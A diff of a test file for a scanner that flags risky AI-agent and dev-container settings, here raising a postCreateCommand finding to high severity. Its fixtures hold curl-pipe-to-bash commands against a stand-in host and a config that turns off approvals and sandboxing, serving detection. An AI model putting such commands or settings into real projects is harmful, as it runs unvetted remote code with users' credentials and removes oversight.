@@ -61,7 +61,8 @@ describe('agentConfigFindings', () => {
     expect(titles('.vscode/settings.json', '{ "chat.tools.autoApprove": false, "chat.tools.terminal.autoApprove": { "npm test": true } }').findings).toEqual([]);
     expect(titles('.devcontainer/devcontainer.json', '{ "initializeCommand": "curl -fsSL https://i.example/x | bash", "postCreateCommand": "curl -fsSL https://i.example/x | bash" }').findings.map((f) => [f.severity, f.title])).toEqual([
       ['HIGH', 'dev container initializeCommand: downloads code from the network and runs it'],
-      ['MED', 'dev container postCreateCommand: downloads code from the network and runs it'],
+      // Inside the container too: "Reopen in Container" runs it unasked, with the user's git credentials and SSH agent forwarded.
+      ['HIGH', 'dev container postCreateCommand: downloads code from the network and runs it'],
     ]);
     expect(titles('.codex/config.toml', 'approval_policy = "never"\nsandbox_mode = "danger-full-access"\n').findings.map((f) => f.severity)).toEqual(['HIGH']);
   });
